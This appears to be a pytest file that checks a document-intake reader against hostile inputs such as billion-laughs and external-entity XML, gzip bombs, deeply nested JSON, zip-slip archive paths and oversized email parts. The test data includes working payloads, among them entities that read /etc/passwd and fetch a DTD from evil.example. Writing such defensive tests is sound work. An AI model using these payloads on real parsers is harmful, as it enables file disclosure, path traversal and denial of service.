"""Files made to fill the memory, to open other files or to hide a loss: each stops at a limit and is named."""

from __future__ import annotations

import gzip
import io
import resource
import subprocess
import sys
import zipfile
from typing import TYPE_CHECKING

import pytest

from twosource.readers.intake import MAX_LISTED, read_inputs

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from twosource.model import Intake

GIGABYTE = 1 << 30
TEXT = "The harbour authority said on Tuesday that the eastern quay would stay shut until the inspectors had finished."
# On Linux the kernel's count for a process includes what its parent held when it started it, so the peak of its own
# memory is read where it is told.
MEASURED = """
import pathlib, re, resource, sys
from twosource.readers.intake import read_inputs
intake = read_inputs([sys.argv[1]])
status = pathlib.Path("/proc/self/status")
peak = re.search(r"VmHWM:\\s*(\\d+)", status.read_text()) if status.exists() else None
kilobytes = int(peak[1]) if peak else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(len(intake.reports), len(intake.skipped), kilobytes * 1024)
"""


def read(raw: bytes) -> Intake:
    return read_inputs(["-"], stdin=io.BytesIO(raw))


def cause(raw: bytes) -> str:
    intake = read(raw)
    assert intake.reports == ()
    return intake.skipped[0].cause


def sparse(path: Path, head: bytes = b"") -> Path:
    with path.open("wb") as stream:
        stream.write(head)
        stream.truncate(2_000_000_000)
    return path


def laughs() -> bytes:
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    return b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha">' + entities + b"]><rss>&l9;</rss>"


@pytest.mark.parametrize(
    "raw",
    [
        laughs(),
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><a>&x;</a></rss>',
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss/>',
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "' + b"a" * 100_000 + b'">]><rss>' + b"&x;" * 1_000 + b"</rss>",
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY x "y">]><rss>&x;</rss>'.encode("utf-16"),
    ],
    ids=["billion laughs", "external entity", "parameter entity", "quadratic", "utf-16"],
)
def test_xml_that_declares_entities_is_not_read(raw: bytes) -> None:
    assert "declares entities" in cause(raw)


def test_nothing_that_xml_names_is_opened() -> None:
    opened: list[object] = []
    watching = [True]

    def watch(event: str, arguments: tuple[object, ...]) -> None:
        if watching[0] and event in {"open", "socket.connect", "urllib.Request"}:
            opened.append(arguments[0])

    sys.addaudithook(watch)
    feed = b"<rss><channel><item><title>x</title><link>file:///etc/passwd</link></item></channel></rss>"
    read(b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">' + feed)
    read(b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>')
    watching[0] = False
    assert not [name for name in opened if "passwd" in str(name)]


@pytest.mark.parametrize("raw", [b"<rss>" + b"<a>" * 1_000_000, b"<html><body>" + b"<div>" * 1_000_000])
def test_a_million_nested_tags_are_not_read(raw: bytes) -> None:
    assert read(raw).reports == ()
    assert read(raw).skipped


@pytest.mark.parametrize("raw", [b'[{"a":' * 500_000, b'{"text": ' + b"[" * 1_000_000, b'{"a":' * 1_000_000])
def test_json_that_is_nested_too_deeply_is_not_read(raw: bytes) -> None:
    assert "is no JSON" in cause(raw)


def test_spans_of_2_to_the_53_rows_cost_nothing() -> None:
    cell = f'<td rowspan="9007199254740991" colspan="9007199254740991">{TEXT}</td>'
    intake = read(f"<html><body><article><table><tr>{cell}</tr></table><p>{TEXT}</p></article></body></html>".encode())
    assert TEXT in intake.reports[0].text


@pytest.mark.parametrize(
    ("raw", "told"),
    [
        (gzip.compress(b"a" * 10_000_000), "more than 200 times"),
        (gzip.compress(gzip.compress(TEXT.encode())), "gzip data inside gzip data"),
    ],
)
def test_gzip_bombs_stop_at_the_ratio(raw: bytes, told: str) -> None:
    assert told in cause(raw)


def test_no_member_of_an_archive_is_written_or_opened_by_its_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../evil.txt", TEXT)
        archive.writestr("/tmp/evil.txt", TEXT + "again")
    intake = read(packed.getvalue())
    assert [report.path for report in intake.reports] == ["-/../evil.txt", "-//tmp/evil.txt"]
    assert list(tmp_path.iterdir()) == []


def test_letters_of_thousands_of_parts_or_giant_headers_are_not_parsed() -> None:
    head = b"From: a@b.example\r\nMIME-Version: 1.0\r\nMessage-ID: <x>\r\n"
    parts = b"".join(
        b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (n, n + 1) for n in range(5_000)
    )
    assert "cannot be parsed" in cause(head + b'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n' + parts)
    assert "too many parts" in cause(head + b"\r\n" + b"\n--b\n" * 20_000)
    assert "header of more than" in cause(head + b"Subject: " + b"=?utf-8?q?a?= " * 100_000 + b"\r\n\r\nhello")


def test_losses_beyond_a_number_are_counted_by_their_causes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("twosource.readers.intake.MAX_LISTED", 10)
    intake = read(b'{"id": 1}\n' * 1_000)
    assert len(intake.skipped) == 11
    assert intake.skipped[-1].cause == "990 further records are skipped: 990 × has no text"
    assert MAX_LISTED >= 1_000


HEAVY: dict[str, Callable[[Path], object]] = {
    "sparse.txt": sparse,
    "sparse.jsonl": sparse,
    "sparse.warc": lambda path: sparse(path, b"WARC/1.0\r\nContent-Length: 1999999000\r\n\r\n"),
    "sparse.parquet": lambda path: sparse(path, b"PAR1"),
    "zeros.jsonl.gz": lambda path: path.write_bytes(gzip.compress(b"\0" * 100_000_000)),
    "zeros.warc.gz": lambda path: path.write_bytes(
        gzip.compress(b"WARC/1.0\r\nContent-Length: 100000000\r\n\r\n" + b"\0" * 100_000_000)
    ),
    "wide.xml": lambda path: path.write_bytes(b"<rss>" + b"<a/>" * 990_000 + b"</rss>"),
    "wide.json": lambda path: path.write_bytes(b"[" + b"[]," * 6_000_000 + b"[]]"),
}


@pytest.mark.parametrize("name", HEAVY)
def test_a_heavy_file_is_named_and_stays_within_a_gigabyte(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    HEAVY[name](path)
    # A child of its own, so that its memory is its own.
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, str(path)], capture_output=True, text=True, check=True, timeout=600
    )
    reports, skipped, memory = map(int, done.stdout.split())
    assert reports == 0
    assert skipped > 0
    assert memory < GIGABYTE


def test_memory_is_measured_in_bytes() -> None:
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 > 10_000_000
